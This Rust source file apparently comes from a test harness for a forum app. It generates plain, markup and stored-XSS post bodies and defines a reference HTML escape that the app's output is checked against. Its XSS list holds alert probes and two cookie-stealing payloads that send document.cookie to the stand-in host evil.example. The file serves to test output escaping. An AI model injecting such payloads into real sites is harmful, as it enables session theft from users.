//! Post and page bodies, and the reference encodings the oracle checks
//! responses against.

use crate::rng::Rng;

/// What a body carries, which decides how the app must treat it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Text without markup.
    Plain,
    /// Harmless formatting markup (`<b>`, `<a href>`, ...).
    Markup,
    /// A stored-XSS payload.
    Xss,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Body {
    pub kind: Kind,
    pub text: String,
}

impl Body {
    /// The script payload inside an XSS body, which must never reach a
    /// client unescaped.
    pub fn payload(&self) -> Option<&'static str> {
        (self.kind == Kind::Xss)
            .then(|| XSS.iter().copied().find(|p| self.text.contains(p)))
            .flatten()
    }
}

pub const MIN_BODY: usize = 32;
pub const MAX_BODY: usize = 4096;

const WORDS: &[&str] = &[
    "the",
    "forum",
    "thread",
    "reply",
    "patch",
    "release",
    "kernel",
    "build",
    "error",
    "fixed",
    "works",
    "for",
    "me",
    "on",
    "arm64",
    "please",
    "see",
    "log",
    "attached",
    "Q&A",
    "don't",
    "\"quoted\"",
    "it's",
    "v2.1",
    "thanks",
    "update",
    "cache",
    "config",
    "rollback",
    "tests",
];

const MARKUP: &[&str] = &[
    "<b>important</b>",
    "<i>note</i>",
    "<a href=\"/wiki/Help\">help</a>",
    "<code>make test</code>",
    "<br/>",
    "<ul><li>one</li><li>two</li></ul>",
];

const XSS: &[&str] = &[
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg onload=fetch('//evil.example/'+document.cookie)>",
    "\"><script>alert(1)</script>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
];

fn words(rng: &mut Rng, out: &mut String, len: usize) {
    while out.len() < len {
        if !out.is_empty() {
            out.push(' ');
        }
        out.push_str(rng.pick(WORDS));
    }
}

/// A body of log-uniform length in `MIN_BODY..=MAX_BODY`.
pub fn body(rng: &mut Rng, kind: Kind) -> Body {
    let len = rng.log_uniform(MIN_BODY, MAX_BODY);
    body_of_len(rng, kind, len)
}

/// A body of about `len` bytes: plain bodies are cut to it, and markup
/// and XSS bodies keep their tags whole.
pub fn body_of_len(rng: &mut Rng, kind: Kind, len: usize) -> Body {
    let mut text = String::with_capacity(len + 96);
    match kind {
        Kind::Plain => {
            words(rng, &mut text, len);
            text.truncate(len);
        }
        Kind::Markup => {
            // Tags stay whole, so the body may run a tag's length over.
            let first = rng.below(len / 8 + 1);
            let mut i = 0;
            while text.len() < len {
                if !text.is_empty() {
                    text.push(' ');
                }
                let tag = i == first || rng.chance(0.15);
                text.push_str(if tag {
                    rng.pick(MARKUP)
                } else {
                    rng.pick(WORDS)
                });
                i += 1;
            }
            if !text.contains('<') {
                text.push_str(rng.pick(MARKUP));
            }
        }
        Kind::Xss => {
            // The payload stays whole; filler words go around it.
            let payload = rng.pick(XSS);
            let filler = len.saturating_sub(payload.len());
            let before = rng.below(filler + 1);
            words(rng, &mut text, before);
            text.truncate(before);
            text.push_str(payload);
            let mut after = String::new();
            words(rng, &mut after, filler - before);
            after.truncate(filler - before);
            text.push_str(&after);
        }
    }
    Body { kind, text }
}

/// Draws a kind with the given shares of XSS and markup bodies.
pub fn kind(rng: &mut Rng, xss: f64, markup: f64) -> Kind {
    kind_at(rng.unit(), xss, markup)
}

/// The kind at quantile `u` of the given shares.
pub fn kind_at(u: f64, xss: f64, markup: f64) -> Kind {
    if u < xss {
        Kind::Xss
    } else if u < xss + markup {
        Kind::Markup
    } else {
        Kind::Plain
    }
}

/// The reference HTML escape: what the app's `/view` must produce.
pub fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// `application/x-www-form-urlencoded` for one value.
pub fn form_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3 / 2);
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            b => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_have_their_kind() {
        let mut r = Rng::new(11);
        for _ in 0..2000 {
            let k = kind(&mut r, 0.05, 0.3);
            let b = body(&mut r, k);
            assert!(b.text.len() >= MIN_BODY, "{b:?}");
            match k {
                Kind::Plain => {
                    assert!(b.text.len() <= MAX_BODY);
                    assert!(!b.text.contains('<'));
                }
                Kind::Markup => assert!(b.text.contains('<'), "{b:?}"),
                Kind::Xss => assert!(b.payload().is_some(), "{b:?}"),
            }
        }
    }

    #[test]
    fn escape_and_form_encoding() {
        assert_eq!(escape_html("a<b>&\"'"), "a&lt;b&gt;&amp;&quot;&#39;");
        assert_eq!(form_encode("a b&c=d"), "a+b%26c%3Dd");
    }
}
